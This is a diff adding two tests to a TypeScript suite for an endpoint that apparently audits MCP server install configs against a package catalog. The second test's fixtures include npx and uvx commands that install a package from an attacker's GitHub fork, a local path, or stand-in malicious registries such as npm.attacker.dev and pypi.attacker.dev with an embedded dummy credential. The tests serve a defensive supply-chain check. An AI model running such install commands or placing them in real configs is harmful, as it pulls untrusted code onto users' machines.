@@ -428,6 +428,51 @@ describe("POST /v1/resolve", () => {
     expect([body.exit_code, res.headers.get("x-catalog-exit-code")]).toEqual([2, "2"]);
   });
 
+  it("never PASSes on a guess: python -m names a module, and the PyPI distribution read from it is a guess (REVIEW)", async () => {
+    db = await resetDb();
+    const py = listing({
+      name: "io.github.pyco/fetch",
+      repository: { url: "https://github.com/pyco/fetch", source: "github" },
+      packages: [{ registryType: "pypi", identifier: "pyco-fetch", version: "1.0.0", transport: { type: "stdio" } }],
+    });
+    await loadFixtureCatalog(db, [...AUDIT_SERVERS, py]);
+    await observeRepo(db, "https://github.com/pyco/fetch");
+    await observePackage(db, "pypkg", "pyco-fetch", "1.0.0");
+    await observeRepo(db, "https://github.com/blockco/gone");
+    await observePackage(db, "pypkg", "gone_mcp", "2.0.0", false);
+    const { res, body } = await auditJson(
+      config({ sure: { command: "uvx", args: ["pyco-fetch"] }, module: { command: "python3", args: ["-m", "pyco_fetch"] } }),
+      { query: "strict=1" },
+    );
+    const [sure, module] = body.entries;
+    expect(sure).toMatchObject({ server_name: "io.github.pyco/fetch", confidence: "high", verdict: "PASS" });
+    expect(module).toMatchObject({ server_name: "io.github.pyco/fetch", resolved_by: "pypkg", confidence: "low", verdict: "REVIEW" });
+    expect(module.reasons).toEqual([{ code: "guessed_match", result: "review", summary: expect.stringMatching(/would PASS.*guess/) }]);
+    expect([body.exit_code, res.headers.get("x-catalog-exit-code")]).toEqual([2, "2"]);
+    // a guess that fails stays failed: only a PASS needs the identity to be sure
+    expect((await auditJson(config({ m: { command: "python", args: ["-m", "gone_mcp"] } }))).body.entries[0]).toMatchObject({ confidence: "low", verdict: "BLOCK" });
+  });
+
+  it("never PASSes a package the config installs from a fork, a path or another registry under the listed name", async () => {
+    const { body } = await auditJson(
+      config({
+        fork: { command: "npx", args: ["-y", "good-mcp@github:attacker/good-mcp"] },
+        path: { command: "npx", args: ["-y", "good-mcp@file:../good-mcp"] },
+        registry: { command: "npx", args: ["-y", "--registry", "https://npm.attacker.dev", "good-mcp@1.0.0"] },
+        index: { command: "uvx", args: ["--extra-index-url", "https://user:s3cret@pypi.attacker.dev/simple", "gone-mcp"] },
+        public: { command: "npx", args: ["-y", "--registry=https://registry.npmjs.org/", "good-mcp@1.0.0"] },
+      }),
+    );
+    expect(body.entries.map((e) => [e.key, e.verdict, e.server_name])).toEqual([
+      ["fork", "UNKNOWN", null],
+      ["path", "UNKNOWN", null],
+      ["registry", "UNKNOWN", null],
+      ["index", "UNKNOWN", null],
+      ["public", "PASS", "io.github.passco/good"],
+    ]);
+    expect(JSON.stringify(body)).not.toContain("s3cret");
+  });
+
   it("resolves a package two listings share to the one published most recently, at low confidence", async () => {
     db = await resetDb();
     const shared = (name: string, publishedAt: string) =>
